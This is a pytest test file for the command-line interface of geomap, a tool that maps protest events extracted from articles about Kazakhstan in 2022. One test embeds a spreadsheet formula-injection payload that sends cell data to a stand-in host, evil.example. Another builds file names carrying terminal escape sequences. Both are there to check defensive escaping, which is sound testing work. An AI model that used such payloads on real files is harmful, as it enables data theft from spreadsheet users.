"""The command line: every command, its exit codes and its outputs."""
from __future__ import annotations

import json
import os
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from geomap import __version__, pipeline
from geomap.cli import main

SEED_DIR = Path(__file__).resolve().parent.parent / "seeds"


def run(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def test_version_and_help():
    assert __version__ in run("--version").output
    for cmd in (["map"], ["extract"], ["places"], ["gazetteer", "search"], ["gazetteer", "validate"]):
        out = run(*cmd, "--help").output
        assert "Example" in out, cmd


def test_usage_errors_exit_2(tmp_path):
    assert run("map").exit_code == 2
    assert run("map", str(SEED_DIR), "--published", "2022-13-45").exit_code == 2
    assert run("extract", str(SEED_DIR), "-o", str(tmp_path / "x.xlsx")).exit_code == 2


@pytest.mark.parametrize("suffix", [".csv", ".geojson", ".jsonl"])
def test_extract_formats(tmp_path, suffix):
    out = tmp_path / f"events{suffix}"
    result = run("extract", str(SEED_DIR), "-o", str(out), "--quiet")
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    if suffix == ".csv":
        assert len(pd.read_csv(out)) >= 5
    elif suffix == ".geojson":
        assert json.loads(text)["type"] == "FeatureCollection"
    else:
        rows = [json.loads(line) for line in text.splitlines()]
        assert rows and all(r["country"] == "KZ" for r in rows)


def test_published_override(tmp_path):
    out = tmp_path / "e.csv"
    assert run("extract", str(SEED_DIR), "-o", str(out), "--published", "2022-01-10",
               "--quiet").exit_code == 0
    df = pd.read_csv(out)
    assert (df["published"] == "2022-01-10").all() and not df["published_inferred"].any()


def test_failed_input_exit_1_and_rest_processed(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "good.txt").write_text("Protesters rallied in Aktau on January 5, 2022.", encoding="utf-8")
    (src / "empty.txt").write_text("   \n", encoding="utf-8")
    out = tmp_path / "maps"
    result = run("map", str(src), "--out", str(out), "--quiet")
    assert result.exit_code == 1
    failures = pd.read_csv(out / "failures.csv")
    assert list(failures["path"].map(lambda p: Path(p).name)) == ["empty.txt"]
    assert (out / "good.html").exists() and (out / "index.html").exists()
    assert (pd.read_csv(out / "events.csv")["location"] == "Aktau").any()


def test_places_command_explains():
    result = run("places", "Police detained 20 people in Zhanaozen; Nursultan Nazarbayev was silent.")
    assert result.exit_code == 0
    assert "Zhanaozen" in result.output and "resolved" in result.output
    assert "person" in result.output


def test_gazetteer_commands(tmp_path):
    result = run("gazetteer", "search", "Alma-Ata")
    assert result.exit_code == 0 and "gn:1526384" in result.output.splitlines()[0]
    assert run("gazetteer", "search", "Xyzzyqwv").exit_code == 1
    assert "places" in run("gazetteer", "info").output.lower()
    bad = tmp_path / "bad.csv"
    bad.write_text("place_id,name,kind,latitude,longitude,country\nlm:x,X,landmark,95,51,KZ\n",
                   encoding="utf-8")
    result = run("gazetteer", "validate", str(bad))
    assert result.exit_code == 1 and "latitude" in result.output


def test_bad_overlay_is_a_usage_error(tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("place_id,name,kind,latitude,longitude,country\nlm:x,X,landmark,95,51,KZ\n",
                   encoding="utf-8")
    assert run("map", str(SEED_DIR), "--out", str(tmp_path / "m"), "--gazetteer-extra",
               str(bad)).exit_code == 2


GOOD = "Police detained 20 protesters in Zhanaozen on January 5, 2022."


def _corpus(folder: Path, **files: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in {"good.txt": GOOD, **files}.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def test_unusable_output_location_is_a_usage_error(tmp_path):
    src = _corpus(tmp_path / "in")
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    for args in (["map", str(src), "--out", str(blocker / "sub")],
                 ["extract", str(src), "-o", str(blocker / "sub" / "e.csv")]):
        result = run(*args, "--quiet", "--jobs", "1")
        assert result.exit_code == 2, result.output
        assert "cannot write outputs here: Not a directory" in result.output
        assert "Traceback" not in result.output


def test_implausible_published_option_is_a_usage_error():
    result = run("map", str(SEED_DIR), "--published", "0001-01-01")
    assert result.exit_code == 2 and "before 1900" in result.output


def test_fifo_overlay_is_refused_not_read(tmp_path):
    fifo = tmp_path / "overlay.csv"
    os.mkfifo(fifo)
    result = run("gazetteer", "validate", str(fifo))  # reading it would block forever
    assert result.exit_code == 2 and "is not a regular file" in result.output


def test_places_with_an_empty_argument_does_not_read_the_current_folder():
    result = run("places", "  ")
    assert result.exit_code == 2 and "is empty" in result.output


def test_a_bug_on_one_article_fails_that_article_only(tmp_path, monkeypatch):
    src = _corpus(tmp_path / "in", **{"odd.txt": "Protesters rallied in Aktau on January 4, 2022."})
    real = pipeline.process_article

    def buggy(article, *args, **kwargs):
        if article.article_id == "odd":
            raise OverflowError("date value out of range")
        return real(article, *args, **kwargs)

    monkeypatch.setattr(pipeline, "process_article", buggy)
    out = tmp_path / "maps"
    result = run("map", str(src), "--out", str(out), "--quiet", "--jobs", "1")
    assert result.exit_code == 1 and "Traceback" not in result.output
    failures = pd.read_csv(out / "failures.csv")
    assert failures["reason"].tolist() == [
        "internal error while extracting events: OverflowError: date value out of range"]
    assert (out / "good.html").exists() and not (out / "odd.html").exists()


def test_a_bug_drawing_one_map_fails_that_article_only(tmp_path, monkeypatch):
    src = _corpus(tmp_path / "in", **{"odd.txt": "Protesters rallied in Aktau on January 4, 2022."})
    real = pipeline._draw_article

    def buggy(record, *args, **kwargs):
        if record.article_id == "odd":
            raise KeyError("popup")
        return real(record, *args, **kwargs)

    monkeypatch.setattr(pipeline, "_draw_article", buggy)
    out = tmp_path / "maps"
    assert run("map", str(src), "--out", str(out), "--quiet", "--jobs", "1").exit_code == 1
    (reason,) = pd.read_csv(out / "failures.csv")["reason"]
    assert reason == "internal error while drawing its map: KeyError: 'popup'"
    assert (pd.read_csv(out / "events.csv")["article_id"] == "good").all()


def test_an_unexpected_error_is_one_line_not_a_traceback(tmp_path, monkeypatch):
    def broken(**kwargs):
        raise RuntimeError("something odd\nsecond line")

    monkeypatch.setattr(pipeline, "map_corpus", broken)
    result = run("map", str(SEED_DIR), "--out", str(tmp_path / "m"), "--quiet")
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.output.startswith("error: internal error: RuntimeError: something odd\\nsecond")


def test_hostile_file_names_reach_failures_csv(tmp_path):
    src = _corpus(tmp_path / "in")
    (src / os.fsdecode(b"bad\xffname.txt")).write_bytes(b"")
    (src / "esc\x1b[2J.txt").write_bytes(b"")
    out = tmp_path / "maps"
    result = run("map", str(src), "--out", str(out), "--quiet", "--jobs", "1")
    assert result.exit_code == 1 and "\x1b" not in result.output
    names = pd.read_csv(out / "failures.csv")["path"].map(lambda p: Path(p).name).tolist()
    assert names == ["bad\\xffname.txt", "esc\\x1b[2J.txt"]


def test_output_folder_inside_the_input_is_not_read_back(tmp_path):
    src = _corpus(tmp_path / "in")
    out = src / "maps"
    for _ in range(2):
        result = run("map", str(src), "--out", str(out), "--quiet", "--jobs", "1")
        assert result.exit_code == 0, result.output
    assert pd.read_csv(out / "failures.csv").empty
    out_csv = src / "events.csv"
    for _ in range(2):
        result = run("extract", str(src), "-o", str(out_csv), "--quiet", "--jobs", "1")
        assert result.exit_code == 0, result.output


def test_language_overrides_headers_and_detection(tmp_path):
    """A Russian article mostly in Latin script is read as English unless --language says ru."""
    from geomap.ingest import read_articles

    f = tmp_path / "a.txt"
    f.write_text("language: en\n\nВ Жанаозене прошел митинг. Police and OMON were there, "
                 "said the Tengrinews.kz and Vlast.kz reporters.\n", encoding="utf-8")
    (plain,) = read_articles([f])
    (forced,) = read_articles([f], language="ru")
    assert (plain.language, forced.language) == ("en", "ru")


GOOD = "title: t\npublished: 2022-01-05\n\nThousands of protesters rallied in Zhanaozen on Sunday.\n"


def test_tables_of_an_earlier_extract_are_not_read_back(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "good.txt").write_text(GOOD, encoding="utf-8")
    for name in ("events.jsonl", "events.csv", "other.csv"):  # each run names another output
        result = run("extract", str(src), "-o", str(src / name), "--quiet", "--jobs", "1")
        assert result.exit_code == 0, result.output
    result = run("map", str(src), "--out", str(tmp_path / "maps"), "--quiet", "--jobs", "1")
    assert result.exit_code == 0 and pd.read_csv(tmp_path / "maps" / "failures.csv").empty


def test_map_files_never_collide(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "index.txt").write_text(GOOD.replace("title: t", "title: FIRST"), encoding="utf-8")
    (src / "article-index.txt").write_text(GOOD.replace("title: t", "title: SECOND"), encoding="utf-8")
    out = tmp_path / "maps"
    assert run("map", str(src), "--out", str(out), "--quiet", "--jobs", "1").exit_code == 0
    titles = {p.name: p.read_text(encoding="utf-8").split("<title>")[1].split("</title>")[0]
              for p in out.glob("*.html")}
    assert titles == {"index.html": "geomap: all articles", "index_.html": "FIRST",
                      "article-index.html": "SECOND"}


@pytest.mark.parametrize("option", [["--tiles", "foo"], ["--assets", "/nonexistent/mirror"], ["-o", ""]])
def test_bad_map_options_are_usage_errors_before_any_work(tmp_path, option):
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    args = ["map", str(tmp_path / "good.txt"), "--quiet"] + (["-o", str(tmp_path / "maps")] if "-o" not in option else [])
    result = run(*args, *option)
    assert result.exit_code == 2
    assert not (tmp_path / "maps").exists()


def test_an_unreadable_input_is_the_batch_s_failure_not_a_usage_error(tmp_path, monkeypatch):
    """click would refuse the whole command line for one unreadable file (tested through
    os.access, since root reads any file)."""
    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
    monkeypatch.setattr(os, "access", lambda *a, **k: False)
    result = run("extract", str(tmp_path / "good.txt"), "--quiet", "-o", str(tmp_path / "e.csv"))
    assert result.exit_code == 0, result.output


def test_places_takes_text_longer_than_a_file_name():
    result = run("places", "Protesters rallied in Zhanaozen on Sunday and " * 8)
    assert result.exit_code == 0 and "Zhanaozen" in result.output


def test_an_absurd_crowd_figure_keeps_the_event(tmp_path):
    (tmp_path / "big.txt").write_text(GOOD.replace("Thousands of", "10,000,000,000,000,000,000"),
                                      encoding="utf-8")
    result = run("extract", str(tmp_path / "big.txt"), "--quiet", "-o", str(tmp_path / "e.csv"))
    assert result.exit_code == 0, result.output
    events = pd.read_csv(tmp_path / "e.csv")
    assert list(events["location"]) == ["Zhanaozen"] and events["participants_min"].isna().all()


def test_a_glob_that_matches_nothing_is_a_usage_error_and_double_star_takes_the_top(tmp_path):
    src = tmp_path / "in"
    (src / "sub").mkdir(parents=True)
    (src / "top.txt").write_text(GOOD.replace("Zhanaozen", "Aktau"), encoding="utf-8")
    (src / "sub" / "s.txt").write_text(GOOD, encoding="utf-8")
    assert run("extract", str(src), "--glob", ".", "--quiet").exit_code == 2
    result = run("extract", str(src), "--glob", "**/*.txt", "--quiet", "-o", str(tmp_path / "e.csv"))
    assert result.exit_code == 0
    assert set(pd.read_csv(tmp_path / "e.csv")["location"]) == {"Aktau", "Zhanaozen"}


def test_places_with_a_missing_file_says_so():
    result = run("places", "/nonexistent/article.txt")
    assert result.exit_code == 1 and "no such file" in result.output


def test_the_map_of_a_deleted_input_goes_on_the_next_run(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "a.txt").write_text(GOOD, encoding="utf-8")
    (src / "b.txt").write_text(GOOD.replace("Zhanaozen", "Aktau"), encoding="utf-8")
    out = tmp_path / "maps"
    assert run("map", str(src), "--out", str(out), "--quiet", "--jobs", "1").exit_code == 0
    assert (out / "b.html").exists()
    (src / "b.txt").unlink()
    assert run("map", str(src), "--out", str(out), "--quiet", "--jobs", "1").exit_code == 0
    assert (out / "a.html").exists() and not (out / "b.html").exists()
    (out / "mine.html").write_text("a user's own file", encoding="utf-8")  # never geomap's to remove
    assert run("map", str(src), "--out", str(out), "--quiet", "--jobs", "1").exit_code == 0
    assert (out / "mine.html").exists()


def test_out_may_not_be_an_input_folder(tmp_path):
    (tmp_path / "a.txt").write_text("published: 2022-01-06\n\nProtesters rallied in Aktau on Wednesday.",
                                    encoding="utf-8")
    result = run("map", str(tmp_path), "--out", str(tmp_path), "-q")
    assert result.exit_code == 2 and "input folder" in result.output
    assert not (tmp_path / "index.html").exists() and not (tmp_path / ".geomap-output").exists()


def test_usage_limits(tmp_path):
    assert run("gazetteer", "search", "Aktau", "--limit", "-5").exit_code == 2
    assert run("gazetteer", "search", "Aktau", "--limit", "99999999999999999999").exit_code == 2
    (tmp_path / "out" / ".geomap-cache.sqlite").mkdir(parents=True)
    assert run("map", str(SEED_DIR), "--out", str(tmp_path / "out"), "-q").exit_code == 2


def _shell(command: str, **kwargs):
    """A geomap command line run by bash, for stream redirections such as ``2>&-``."""
    import shlex
    import subprocess
    import sys

    return subprocess.run(["bash", "-c", f"{shlex.quote(sys.executable)} -m geomap.cli {command}"],
                          capture_output=True, **kwargs)


def test_closed_or_narrow_terminals_lose_no_output(tmp_path):
    text = tmp_path / "a.txt"
    text.write_text("published: 2022-01-06\n\nPolice detained 20 people in Жанаозен on Wednesday \u2019.",
                    encoding="utf-8")
    env = {**os.environ, "PYTHONIOENCODING": "latin-1"}
    done = _shell(f"extract '{text}' -q", env=env)
    assert done.returncode == 0 and "Zhanaozen" in done.stdout.decode("utf-8")
    assert _shell("places 'Люди собрались в Жанаозене.'", env=env).returncode == 0
    done = _shell(f"map '{text}' --out '{tmp_path / 'm'}' 2>&-")
    assert done.returncode == 0 and (tmp_path / "m" / "index.html").exists()
    assert _shell(f"extract '{text}' -q >&-").returncode == 2


def test_an_empty_input_is_a_usage_error(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.txt").write_text("Protesters rallied in Aktau on 5 January 2022.", encoding="utf-8")
    assert run("extract", "", "-q").exit_code == 2


def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path):
    art = tmp_path / "a.txt"
    art.write_text('published: 2022-01-11\n\n=HYPERLINK("http://evil.example/?x="&A1,"Click") Police detained '
                   "20 people in Zhanaozen on January 10 2022.", encoding="utf-8")
    out = tmp_path / "e.csv"
    assert run("extract", str(art), "-o", str(out), "-q").exit_code == 0
    evidence = pd.read_csv(out)["evidence"].tolist()
    assert evidence and all(not e.startswith("=") for e in evidence) and evidence[0].startswith("'=")


def test_a_second_run_into_a_folder_in_use_is_refused(tmp_path):
    from geomap.fsutil import folder_lock

    (tmp_path / "a.txt").write_text("Protesters gathered in Aktau on Monday.", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    with folder_lock(out):  # another run holds it
        result = run("map", str(tmp_path / "a.txt"), "--out", str(out), "-q")
    assert result.exit_code == 2 and "in use by another geomap run" in result.output
    assert not (out / "index.html").exists()
    assert run("map", str(tmp_path / "a.txt"), "--out", str(out), "-q").exit_code == 0  # released


def test_extract_takes_the_output_folder_lock_and_clears_only_its_own_leftovers(tmp_path):
    from geomap.fsutil import folder_lock

    (tmp_path / "a.txt").write_text("Protesters gathered in Aktau on Monday.", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    with folder_lock(out):  # a `geomap map --out out` (or another extract) holds it
        result = run("extract", str(tmp_path / "a.txt"), "-o", str(out / "e.csv"), "-q")
    assert result.exit_code == 2 and "in use by another geomap run" in result.output
    assert not (out / "e.csv").exists()
    (out / ".e.csv.abcd1234.tmp").write_text("left by a killed extract", encoding="utf-8")
    (out / ".notes.txt.abcd1234.tmp").write_text("someone else's", encoding="utf-8")
    assert run("extract", str(tmp_path / "a.txt"), "-o", str(out / "e.csv"), "-q").exit_code == 0
    assert (out / "e.csv").exists() and not (out / ".e.csv.abcd1234.tmp").exists()
    assert (out / ".notes.txt.abcd1234.tmp").exists()


def test_a_deleted_current_folder_is_a_usage_error(tmp_path, monkeypatch):
    gone = tmp_path / "gone"
    gone.mkdir()
    monkeypatch.chdir(gone)
    gone.rmdir()
    result = run("map", str(SEED_DIR), "--out", "rel", "-q")
    assert result.exit_code == 2 and "current folder no longer exists" in result.output


def test_no_article_maps_draws_the_index_alone(tmp_path):
    (tmp_path / "a.txt").write_text("published: 2022-01-06\n\nProtesters gathered in Aktau on Monday.",
                                    encoding="utf-8")
    out = tmp_path / "out"
    assert run("map", str(tmp_path / "a.txt"), "--out", str(out), "-q", "--no-article-maps").exit_code == 0
    assert sorted(p.name for p in out.glob("*.html")) == ["index.html"]
    assert "a.html" not in (out / "index.html").read_text(encoding="utf-8")
    assert len(pd.read_csv(out / "events.csv")) == 1
    assert run("map", str(tmp_path / "a.txt"), "--out", str(out), "-q").exit_code == 0  # cached, maps drawn now
    assert sorted(p.name for p in out.glob("*.html")) == ["a.html", "index.html"]


def test_assumed_dates_and_languages_are_warned_about_and_the_articles_kept(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "undated.txt").write_text("title: x\n\nYesterday about 200 people rallied in Aktau.",
                                     encoding="utf-8")
    (src / "rows.jsonl").write_text(json.dumps({
        "id": "f1", "published": "2022-01-06", "language": "fr",
        "text": "Hier, 200 personnes ont manifesté à Aktau."}) + "\n", encoding="utf-8")
    (src / "dated.txt").write_text("published: 2022-01-06\n\nProtesters rallied in Aktau yesterday.",
                                   encoding="utf-8")
    result = run("map", str(src), "--out", str(tmp_path / "maps"))
    assert result.exit_code == 0  # warned, not failed: the events are there
    warnings = [line for line in result.output.splitlines() if line.startswith("warning: ")]
    assert len(warnings) == 2, result.output
    assert any("undated.txt: no publication date" in w and "--published" in w for w in warnings)
    assert any("rows.jsonl:1: language 'fr' is not supported" in w for w in warnings)
    assert "2 warning(s)" in result.output
    events = pd.read_csv(tmp_path / "maps" / "events.csv")
    assert set(events["article_id"]) == {"undated", "dated"}
    rerun = run("map", str(src), "--out", str(tmp_path / "maps"))  # from the cache: said again
    assert rerun.output.count("warning: ") == 2 and "3 from cache" in rerun.output


def test_kazakh_text_is_read_with_a_warning_that_it_is_not_supported(tmp_path):
    kk = ("Жаңаөзен қаласында газ бағасының көтерілуіне қарсы наразылық акциясы басталды. Кейін "
          "шерулер елдің басқа өңірлеріне, соның ішінде Алматы мен Ақтауға да тарады.")
    (tmp_path / "kk.txt").write_text(f"published: 2022-01-05\n\n{kk}", encoding="utf-8")
    result = run("extract", str(tmp_path / "kk.txt"), "-o", str(tmp_path / "e.csv"))
    assert result.exit_code == 0 and "1 warning(s)" in result.output, result.output
    assert "kk.txt: language 'kk' is not supported" in result.output


def test_the_api_takes_a_one_line_text_longer_than_a_file_name():
    import datetime

    import geomap
    frame = geomap.extract("About 200 protesters rallied in Aktau on Monday. " + "x" * 300,
                           published=datetime.date(2022, 1, 10))
    assert list(frame["location"]) == ["Aktau"]


def test_an_unusable_cache_is_a_warning_and_the_run_goes_on(tmp_path):
    src = _corpus(tmp_path / "in")
    out = tmp_path / "out"
    out.mkdir()
    (out / pipeline.CACHE_NAME).symlink_to(tmp_path / "no" / "such" / "folder" / "cache.sqlite")
    result = run("map", str(src), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "cache unusable" in result.output and "running without it" in result.output
    assert len(pd.read_csv(out / "events.csv")) >= 1


def test_sigterm_leaves_no_half_written_file_and_leftovers_are_cleared(tmp_path):
    import signal
    import subprocess
    import sys
    import time

    src = tmp_path / "in"
    src.mkdir()
    for i in range(60):
        (src / f"a{i}.txt").write_text(f"published: 2022-01-06\n\nAbout {i + 5} people rallied in Aktau "
                                       "yesterday.", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / ".places.csv.abcd1234.partial").write_text("left by a killed run", encoding="utf-8")
    proc = subprocess.Popen([sys.executable, "-m", "geomap.cli", "map", str(src), "--out", str(out), "-q",
                             "--jobs", "1"], stderr=subprocess.PIPE)
    deadline = time.time() + 60
    while not any(out.glob("*.html")) and time.time() < deadline and proc.poll() is None:
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode in (0, 143), err  # (0: it finished before the signal came)
    assert not [p.name for p in out.iterdir() if p.name.endswith((".partial", ".tmp"))]
    assert run("map", str(src), "--out", str(out), "-q").exit_code == 0
    assert len(list(out.glob("a*.html"))) == 60 and (out / "index.html").exists()


def test_a_cache_that_cannot_be_written_is_a_warning_once(tmp_path, monkeypatch):
    import sqlite3

    from geomap.cache import ResultCache

    def readonly(self, *args):
        raise sqlite3.OperationalError("attempt to write a readonly database")

    monkeypatch.setattr(ResultCache, "put_many", readonly)
    monkeypatch.setattr(ResultCache, "output_written", readonly)
    src = _corpus(tmp_path / "in", **{"b.txt": "About 300 protesters rallied in Atyrau on 5 January 2022."})
    result = run("map", str(src), "--out", str(tmp_path / "out"), "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert result.output.count("cannot write the cache") == 1
    assert set(pd.read_csv(tmp_path / "out" / "events.csv")["location"]) >= {"Atyrau"}


def test_places_reads_standard_input_for_a_dash():
    result = CliRunner().invoke(main, ["places", "-"], input="Protesters gathered in Aktau.")
    assert result.exit_code == 0 and "Aktau" in result.output


def test_an_article_over_the_time_limit_fails_alone(tmp_path, monkeypatch):
    import datetime

    import geomap
    geomap.extract(GOOD, published=datetime.date(2022, 1, 6))  # this process's stages loaded and warm
    monkeypatch.setattr(pipeline, "ARTICLE_SECONDS", 1.0)
    src = _corpus(tmp_path / "in", **{"slow.txt": "published: 2022-01-06\n\n"
                                      + "About 200 people rallied in Aktau on Monday. " * 8000})
    result = run("map", str(src), "--out", str(tmp_path / "out"), "--jobs", "1", "-q")
    assert result.exit_code == 1 and "slow.txt: took longer than 1 s" in result.output
    assert (tmp_path / "out" / "good.html").exists()


def test_a_fifo_or_device_named_like_a_table_in_a_folder_is_reported_not_read(tmp_path):
    src = _corpus(tmp_path / "in", **{"a.txt": "Protesters rallied in Aktau on January 4, 2022."})
    os.mkfifo(src / "pipe.jsonl")  # opening it would block the walk (and the progress count) forever
    (src / "zero.csv").symlink_to("/dev/zero")
    result = run("extract", str(src), "-o", str(tmp_path / "events.csv"))  # with progress shown
    assert result.exit_code == 1
    assert "pipe.jsonl: not a regular file" in result.output and "zero.csv: not a regular file" in result.output


def test_extract_never_overwrites_an_input_or_a_file_it_did_not_write(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    table = src / "b.csv"
    table.write_text('id,text,published\nc1,"Rally in Aktau on 5 January 2022.",2022-01-06\n', encoding="utf-8")
    before = table.read_bytes()
    result = run("extract", str(src), "-o", str(table))  # an article table in the input folder
    assert result.exit_code == 2 and "not a table geomap wrote" in result.output and table.read_bytes() == before
    assert run("extract", str(table), "-o", str(table)).exit_code == 2
    out = tmp_path / "events.csv"
    assert run("extract", str(src), "-o", str(out)).exit_code == 0
    assert run("extract", str(src), "-o", str(out)).exit_code == 0  # its own table it may replace


def test_gazetteer_search_quotes_a_long_query_shortly():
    result = run("gazetteer", "search", "Aktau" * 20000)
    assert result.exit_code == 1 and len(result.output) < 400


@pytest.mark.parametrize("name", ["events.csv", "events.geojson", "places.csv", "failures.csv", "index.html",
                                  ".geomap-output", "000_ded7867c82757ddc.html"])
def test_a_folder_in_the_way_of_an_output_file_is_a_usage_error_before_any_work(tmp_path, name):
    out = tmp_path / "maps"
    (out / name).mkdir(parents=True)
    result = run("map", str(SEED_DIR), "--out", str(out), "--quiet")
    assert result.exit_code == 2 and f"{out / name} is in the way of an " in result.output and "a folder" in result.output
    assert sorted(p.name for p in out.iterdir()) == [name]  # nothing written, nothing read


def test_a_folder_named_like_a_map_does_not_block_a_run_without_article_maps(tmp_path):
    out = tmp_path / "maps"
    (out / "notes.html").mkdir(parents=True)
    result = run("map", str(SEED_DIR), "--out", str(out), "--quiet", "--no-article-maps")
    assert result.exit_code == 0, result.output
    assert (out / "index.html").is_file() and (out / "notes.html").is_dir()


def test_an_input_read_with_a_warning_is_shown_and_counted_and_the_run_succeeds(tmp_path):
    ru = "Участники митингов в Актау разобрали юрты и расходятся."
    (tmp_path / "mixed.csv").write_bytes(
        b"id,published,text\r\n" + f"a,2022-01-05,{ru}\r\n".encode("cp1251")
        + f"b,2022-01-05,{ru} Жанаозен.\r\n".encode())
    result = run("extract", str(tmp_path / "mixed.csv"), "-o", str(tmp_path / "e.csv"))
    assert result.exit_code == 0, result.output
    lines = [ln for ln in result.output.splitlines() if ln.startswith("warning: ")]
    assert len(lines) == 1 and "mixed.csv: the file switches encoding" in lines[0]
    assert "1 warning(s)" in result.output and "0 failure(s)" in result.output
